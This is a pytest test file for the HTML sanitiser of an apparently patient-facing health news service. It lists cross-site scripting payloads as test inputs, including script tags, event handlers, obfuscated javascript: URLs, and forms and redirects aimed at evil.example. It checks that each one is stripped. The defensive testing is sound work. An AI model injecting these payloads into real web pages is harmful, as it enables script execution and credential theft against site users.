"""Article bodies keep the small allowed markup and lose everything that could run, restyle, frame or track."""

import pytest

from smartcare.patient.news.service import paragraphs, sanitise_body

HOSTILE = [
    ("<p>Hi</p><script>alert(1)</script>", "<p>Hi</p>"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>ok</p>", "<p>ok</p>"),
    ('<img src="https://evil.example/pixel.gif" onerror="alert(1)">', ""),
    ('<img src="/static/logo.png">', ""),
    ('<p onclick="steal()" style="color:red">text</p>', "<p>text</p>"),
    ('<a href="javascript:alert(1)">click</a>', '<a rel="noopener noreferrer">click</a>'),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="/app/account" target="_blank">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ("<style>body{display:none}</style><p>visible</p>", "<p>visible</p>"),
    ('<iframe src="https://evil.example"></iframe><p>a</p>', "<p>a</p>"),
    ('<object data="x.swf"></object><embed src="x.swf">b', "b"),
    ("<svg><script>alert(1)</script></svg>c", "c"),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>d', "d"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt&gt;alert(1)ipt&gt;"),
    ('<p>"><script>alert(1)</script></p>', "<p>\"&gt;</p>"),
    ("<!-- <script>alert(1)</script> --><p>e</p>", "<p>e</p>"),
    ('<form action="https://evil.example"><input name="password"></form>f', "f"),
    ('<div><span class="x">g</span></div>', "g"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">h', "h"),
    ('<base href="https://evil.example/">i', "i"),
    ('<h1>Big</h1><h4>small</h4>', "BigSmall"),
    ('<p><a href="https://ok.example" onmouseover="x()">ok</a></p>',
     '<p><a href="https://ok.example" rel="noopener noreferrer">ok</a></p>'),
]


@pytest.mark.parametrize(("given", "kept"), HOSTILE, ids=[h[0][:40] for h in HOSTILE])
def test_hostile_markup_is_removed(given, kept):
    clean = sanitise_body(given)
    assert clean.replace("Small", "small").lower() == kept.lower()
    for sign in ("<script", "onerror", "onclick", "onmouseover", "javascript:", "<style", "<iframe", "<img", "style="):
        assert sign not in clean.lower()


ALLOWED = [
    "<p>Wash your hands <strong>often</strong>, <em>especially</em> before meals.<br>Use soap.</p>",
    "<h2>What to do</h2><h3>At home</h3><ul><li>Rest</li></ul><ol><li>Drink water</li></ol>",
    "<blockquote><p>Prevention is better than cure.</p></blockquote>",
    '<p><a href="https://www.who.int/" rel="noopener noreferrer">WHO</a> and '
    '<a href="mailto:info@example.org" rel="noopener noreferrer">mail us</a></p>',
    '<p><a href="http://example.org/a?b=1&amp;c=2" rel="noopener noreferrer">link</a></p>',
]


@pytest.mark.parametrize("markup", ALLOWED)
def test_allowed_markup_survives_unchanged(markup):
    assert sanitise_body(markup) == markup


def test_links_get_noopener_whatever_rel_the_author_wrote():
    assert sanitise_body('<a href="https://example.org" rel="opener">x</a>') == (
        '<a href="https://example.org" rel="noopener noreferrer">x</a>')


def test_sanitising_twice_changes_nothing():
    once = sanitise_body(HOSTILE[5][0] + ALLOWED[3] + HOSTILE[0][0])
    assert sanitise_body(once) == once


def test_plain_text_becomes_escaped_paragraphs():
    assert paragraphs("Stay home.\n\nCall 120 if <breathless> & dizzy.") == (
        "<p>Stay home.</p><p>Call 120 if &lt;breathless&gt; &amp; dizzy.</p>")
    assert paragraphs("<p>Already markup</p>") == "<p>Already markup</p>"
